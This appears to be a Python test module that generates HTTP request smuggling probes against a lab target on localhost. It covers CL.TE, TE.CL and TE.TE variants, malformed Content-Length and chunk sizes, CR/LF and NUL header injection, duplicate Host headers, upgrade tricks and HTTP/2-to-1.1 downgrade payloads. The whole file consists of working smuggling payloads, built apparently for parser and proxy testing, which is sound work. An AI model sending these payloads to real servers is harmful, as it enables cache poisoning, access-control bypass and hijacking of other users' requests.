"""Requests that two servers in a row could cut apart at different places, and so take a part of one for another one.

Each probe is what a client sends on a connection of its own, in one piece. It admits to ask for `/lab/outer-N`, and hides a
request for `/lab/inner-N`, or makes room for one. The site is called `localhost`.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass

from hpack.hpack import encode_integer
from hyperframe.frame import DataFrame, Frame, HeadersFrame, SettingsFrame

OUTER = "/lab/outer-000"
INNER = "/lab/inner-000"


@dataclass(frozen=True, slots=True)
class Smuggling:
    """`content` asks for OUTER and hides INNER; `is_http_2`: it is spoken after ALPN h2."""

    name: str
    content: bytes
    is_http_2: bool = False

    def sent(self, number: int) -> bytes:
        """The probe with a number of its own in its paths; of the same length."""
        return self.content.replace(b"-000", b"-%03d" % number)


def smuggling_probes() -> list[Smuggling]:
    """All of them for HTTP/1.1."""
    return [
        *_two_lengths(),
        *_odd_encodings(),
        *_odd_lengths(),
        *_odd_chunks(),
        *_odd_lines(),
        *_odd_hosts(),
        *_upgrades(),
    ]


def http_2_probes() -> list[Smuggling]:
    """Those that a proxy which speaks HTTP/2 could turn into two requests of HTTP/1.1."""
    opening = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + SettingsFrame(0).serialize()
    return [
        Smuggling(name, opening + b"".join(frame.serialize() for frame in frames), is_http_2=True)
        for name, frames in _http_2().items()
    ]


HIDDEN = b"GET /lab/inner-000 HTTP/1.1\r\nHost: localhost\r\nX-Hidden: 1\r\n\r\n"
CHUNKED = b"Transfer-Encoding: chunked\r\n"
LAST_CHUNK = b"0\r\n\r\n"


def _post(headers: bytes, body: bytes) -> bytes:
    return b"POST /lab/outer-000 HTTP/1.1\r\nHost: localhost\r\n" + headers + b"\r\n" + body


def _length(body: bytes) -> bytes:
    return b"Content-Length: %d\r\n" % len(body)


def _two_lengths() -> Iterator[Smuggling]:
    whole = LAST_CHUNK + HIDDEN
    yield Smuggling("CL.TE", _post(_length(whole) + CHUNKED, whole))
    yield Smuggling("CL.TE, the other way round", _post(CHUNKED + _length(whole), whole))
    chunk = b"%x\r\n" % len(HIDDEN) + HIDDEN + b"\r\n" + LAST_CHUNK
    yield Smuggling("TE.CL", _post(b"Content-Length: 4\r\n" + CHUNKED, chunk))
    yield Smuggling("TE.CL of nothing", _post(b"Content-Length: 0\r\n" + CHUNKED, chunk))
    yield Smuggling("CL.CL", _post(b"Content-Length: 0\r\n" + _length(HIDDEN), HIDDEN))
    yield Smuggling("CL.CL, the other way round", _post(_length(HIDDEN) + b"Content-Length: 0\r\n", HIDDEN))
    yield Smuggling("a list of lengths", _post(b"Content-Length: 0, 61\r\n", HIDDEN))
    yield Smuggling("a length in a GET", _post(_length(HIDDEN), HIDDEN).replace(b"POST", b"GET", 1))
    yield Smuggling("a length in HTTP/1.0", _post(_length(whole) + CHUNKED, whole).replace(b"/1.1", b"/1.0", 1))
    yield Smuggling("CL.0", _post(_length(HIDDEN) + b"Expect: 100-continue\r\n", HIDDEN))
    yield Smuggling(
        "a length that is named by Connection", _post(b"Connection: Content-Length\r\n" + _length(HIDDEN), HIDDEN)
    )
    yield Smuggling("chunks that are named by Connection", _post(b"Connection: Transfer-Encoding\r\n" + CHUNKED, whole))


def _odd_encodings() -> Iterator[Smuggling]:
    """TE.TE: one of the two does not see that the body is in chunks."""
    whole = LAST_CHUNK + HIDDEN
    length = _length(whole)
    for line in (
        b"Transfer-Encoding: xchunked",
        b"Transfer-Encoding : chunked",
        b"Transfer-Encoding\t: chunked",
        b" Transfer-Encoding: chunked",
        b"Transfer-Encoding:\x0bchunked",
        b"Transfer-Encoding:\tchunked",
        b"Transfer-Encoding: chunked\x00",
        b"Transfer-Encoding: Chunked",
        b"Transfer-Encoding: chunked;q=1",
        b'Transfer-Encoding: "chunked"',
        b"Transfer-Encoding: identity",
        b"Transfer-Encoding: chunked, identity",
        b"Transfer-Encoding: identity, chunked",
        b"Transfer-Encoding: gzip, chunked",
        b"Transfer-Encoding: chunked, chunked",
        b"Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
        b"Transfer-Encoding: chunked\r\nTransfer-Encoding: x",
        b"Transfer-Encoding:\r\n chunked",
        b"Transfer-Encoding: chu\r\n nked",
        b"X: y\nTransfer-Encoding: chunked",
        b"X: y\rTransfer-Encoding: chunked",
        b"X:\x00\r\nTransfer-Encoding: chunked",
        b"Transfer_Encoding: chunked",
        b"transfer-encoding\x00: chunked",
        b"Transfer-Encoding\xa0: chunked",
        b"Transfer-Encoding: \xc2\xa0chunked",
    ):
        yield Smuggling(f"{line!r} beside a length", _post(length + line + b"\r\n", whole))
        yield Smuggling(f"{line!r} alone", _post(line + b"\r\n", whole))


def _odd_lengths() -> Iterator[Smuggling]:
    for value in (
        b"+61",
        b"-1",
        b"0x3d",
        b"61 ",
        b" 087",
        b"61,61",
        b"8 7",
        b"61\x00",
        b"8_7",
        b"\xb287",
        b"",
        b"61.0",
        b"0\x0b61",
    ):
        yield Smuggling(f"Content-Length {value!r}", _post(b"Content-Length: " + value + b"\r\n", HIDDEN))
    for line in (
        b"Content-Length : 61",
        b" Content-Length: 61",
        b"Content-Length:\r\n 61",
        b"Content_Length: 61",
        b"Content-Length\x00: 61",
    ):
        yield Smuggling(f"{line!r} alone", _post(line + b"\r\n", HIDDEN))
        yield Smuggling(f"{line!r} after another", _post(b"Content-Length: 0\r\n" + line + b"\r\n", HIDDEN))
    yield Smuggling(
        "a first header that is folded",
        b"POST /lab/outer-000 HTTP/1.1\r\n Content-Length: 61\r\nHost: localhost\r\n\r\n" + HIDDEN,
    )


def _odd_chunks() -> Iterator[Smuggling]:
    for size in (
        b"0x0",
        b"00",
        b"+0",
        b"-0",
        b"0 ",
        b" 0",
        b"0\t",
        b"0;",
        b"0;a=b",
        b'0;a="\r\n"',
        b"0;\n",
        b"0\x00",
        b"0_0",
        b"zz",
        b"",
    ):
        yield Smuggling(f"a last chunk of {size!r}", _post(CHUNKED, size + b"\r\n\r\n" + HIDDEN))
    for size in (
        b"3;\nxx",
        b"3;x\ny",
        b"3\n",
        b"0x3",
        b"3 ",
        b"003",
        b"3;" + b"x" * 20_000,
        b"f" * 17,
        b"100000000000000003",
        b"-fffffffd",
    ):
        yield Smuggling(f"a chunk of {size[:24]!r}", _post(CHUNKED, size + b"\r\nabc\r\n" + LAST_CHUNK + HIDDEN))
    for name, body in (
        ("lines that end in \\n", b"3\nabc\n0\n\n"),
        ("lines that end in \\r", b"3\rabc\r0\r\r"),
        ("a chunk without its end", b"3\r\nabc0\r\n\r\n"),
        ("a chunk that ends in anything", b"3\r\nabcxx0\r\n\r\n"),
        ("a trailer that is a length", b"3\r\nabc\r\n0\r\nContent-Length: 61\r\n\r\n"),
        ("a trailer that is an encoding", b"3\r\nabc\r\n0\r\nTransfer-Encoding: chunked\r\n\r\n"),
        ("a trailer that is folded", b"3\r\nabc\r\n0\r\nX: y\r\n z\r\n\r\n"),
        ("a trailer of \\n", b"3\r\nabc\r\n0\r\n\n"),
    ):
        yield Smuggling(name, _post(CHUNKED, body + HIDDEN))


def _odd_lines() -> Iterator[Smuggling]:
    for name, line in (
        ("a header with a line break of \\n", b"X: y\n\nGET /lab/inner-000 HTTP/1.1\nHost: localhost\nX: z"),
        ("a header with a line break of \\r", b"X: y\r\rGET /lab/inner-000 HTTP/1.1\rHost: localhost\rX: z"),
        ("a header with a NUL", b"X: y\x00\r\n\x00\r\nGET /lab/inner-000 HTTP/1.1"),
        ("a folded header with a request in it", b"X: y\r\n GET /lab/inner-000 HTTP/1.1"),
        ("a header without a name", b": y"),
        ("a header without a colon", b"GET /lab/inner-000 HTTP/1.1"),
    ):
        yield Smuggling(name, b"GET /lab/outer-000 HTTP/1.1\r\nHost: localhost\r\n" + line + b"\r\n\r\n")
    for name, line in (
        ("a target with a request in it", b"GET /lab/outer-000\r\nHost: localhost\r\n\r\nGET /lab/inner-000 HTTP/1.1"),
        ("a target with a version in it", b"GET /lab/outer-000 HTTP/1.1 /lab/inner-000 HTTP/1.1"),
        (
            "a target with an encoded line break",
            b"GET /lab/outer-000%0d%0aHost:%20x%0d%0a%0d%0aGET%20/lab/inner-000 HTTP/1.1",
        ),
        ("a request line that ends in \\n", b"GET /lab/outer-000 HTTP/1.1\nX: y"),
        ("a request of HTTP/0.9", b"GET /lab/outer-000"),
        ("a request line of tabs", b"GET\t/lab/outer-000\tHTTP/1.1"),
        ("a version that is none", b"GET /lab/outer-000 HTTP/1.10"),
    ):
        yield Smuggling(name, line + b"\r\nHost: localhost\r\n\r\n")


def _odd_hosts() -> Iterator[Smuggling]:
    for name, lines in (
        ("two Hosts", b"Host: localhost\r\nHost: other.invalid"),
        ("two Hosts, the other way round", b"Host: other.invalid\r\nHost: localhost"),
        ("two Hosts that agree", b"Host: localhost\r\nHost: localhost"),
        ("a Host that is folded", b"Host: localhost\r\n .other.invalid"),
        ("a Host of two", b"Host: localhost, other.invalid"),
        ("a Host with a path", b"Host: localhost/lab/inner-000"),
        ("a Host with somebody at it", b"Host: other.invalid@localhost"),
        ("a Host with a port that is none", b"Host: localhost:80:443"),
        ("a Host before a space", b"Host : localhost"),
        ("an absolute target and another Host", b"Host: localhost"),
    ):
        target = b"https://other.invalid/lab/inner-000" if "absolute" in name else b"/lab/outer-000"
        yield Smuggling(name, b"GET " + target + b" HTTP/1.1\r\n" + lines + b"\r\n\r\n")


def _upgrades() -> Iterator[Smuggling]:
    """A proxy that believes in an upgrade stops looking; what follows would be another request to who refused it."""
    for name, path, lines in (
        (
            "a websocket",
            b"lab/outer-000",
            b"Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 777\r\n",
        ),
        (
            "h2c",
            b"lab/outer-000",
            b"Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n",
        ),
        (
            "a link of another version",
            b"_host/link",
            b"Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 777\r\n",
        ),
        (
            "a link without a key",
            b"_host/link",
            b"Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n",
        ),
        (
            "a link that is h2c",
            b"_host/link",
            b"Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n",
        ),
    ):
        yield Smuggling(
            f"{name}, and a request at once",
            b"GET /" + path + b" HTTP/1.1\r\nHost: localhost\r\n" + lines + b"\r\n" + HIDDEN,
        )


def _h2_request(fields: list[tuple[bytes, bytes]], body: bytes | None) -> list[Frame]:
    """Literal header fields, as no well-behaved encoder writes them."""
    block = b""
    for name, value in fields:
        block += b"\x00" + bytes(encode_integer(len(name), 7)) + name + bytes(encode_integer(len(value), 7)) + value
    flags = ["END_HEADERS"] + (["END_STREAM"] if body is None else [])
    frames: list[Frame] = [HeadersFrame(1, data=block, flags=flags)]
    return frames if body is None else [*frames, DataFrame(1, data=body, flags=["END_STREAM"])]


def _h2_of(*extra: tuple[bytes, bytes], body: bytes | None = None, **pseudo: bytes) -> list[Frame]:
    usual = {"method": b"GET" if body is None else b"POST", "scheme": b"https", "authority": b"localhost"}
    said = usual | {"path": b"/lab/outer-000"} | pseudo
    return _h2_request([*((b":" + name.encode(), value) for name, value in said.items()), *extra], body)


def _http_2() -> dict[str, list[Frame]]:
    smuggled = b" HTTP/1.1\r\nHost: localhost\r\n\r\nGET /lab/inner-000 HTTP/1.1\r\nX: y"
    return {
        "H2.CL of nothing": _h2_of((b"content-length", b"0"), body=HIDDEN),
        "H2.CL of less": _h2_of((b"content-length", b"4"), body=b"abcd" + HIDDEN),
        "H2.CL of more": _h2_of((b"content-length", b"9999"), body=HIDDEN),
        "H2.CL twice": _h2_of((b"content-length", b"0"), (b"content-length", b"61"), body=HIDDEN),
        "H2.TE": _h2_of((b"transfer-encoding", b"chunked"), body=LAST_CHUNK + HIDDEN),
        "H2.TE beside a length": _h2_of(
            (b"transfer-encoding", b"chunked"), (b"content-length", b"5"), body=LAST_CHUNK + HIDDEN
        ),
        "H2 with Connection": _h2_of(
            (b"connection", b"keep-alive, transfer-encoding"), (b"transfer-encoding", b"chunked")
        ),
        "H2 with an upgrade": _h2_of((b"upgrade", b"websocket"), (b"connection", b"upgrade"), path=b"/_host/link"),
        "H2 with a line break in a value": _h2_of((b"x", b"y\r\nTransfer-Encoding: chunked"), body=LAST_CHUNK + HIDDEN),
        "H2 with a request in a value": _h2_of(
            (b"x", b"y\r\n\r\nGET /lab/inner-000 HTTP/1.1\r\nHost: localhost\r\nX: y")
        ),
        "H2 with \\n in a value": _h2_of((b"x", b"y\n\nGET /lab/inner-000 HTTP/1.1\nHost: localhost\nX: y")),
        "H2 with a line break in a name": _h2_of((b"x: y\r\ntransfer-encoding", b"chunked"), body=LAST_CHUNK + HIDDEN),
        "H2 with a colon in a name": _h2_of((b"transfer-encoding: chunked\r\nx", b"y"), body=LAST_CHUNK + HIDDEN),
        "H2 with a request in its path": _h2_of(path=b"/lab/outer-000" + smuggled),
        "H2 with a space in its path": _h2_of(path=b"/lab/outer-000 HTTP/1.1"),
        "H2 with a request in its method": _h2_of(method=b"GET /lab/inner-000 HTTP/1.1\r\nHost: localhost\r\n\r\nGET"),
        "H2 with a request in its authority": _h2_of(authority=b"localhost\r\n\r\nGET /lab/inner-000 HTTP/1.1\r\nX: y"),
        "H2 with another Host": _h2_of((b"host", b"other.invalid")),
        "H2 with upper-case names": _h2_of((b"Transfer-Encoding", b"chunked"), body=LAST_CHUNK + HIDDEN),
        "H2 with a NUL": _h2_of((b"x", b"y\x00z")),
        "H2 with an absolute path": _h2_of(path=b"https://other.invalid/lab/outer-000"),
        "H2 with an underscore for a hyphen": _h2_of((b"transfer_encoding", b"chunked"), body=LAST_CHUNK + HIDDEN),
    }
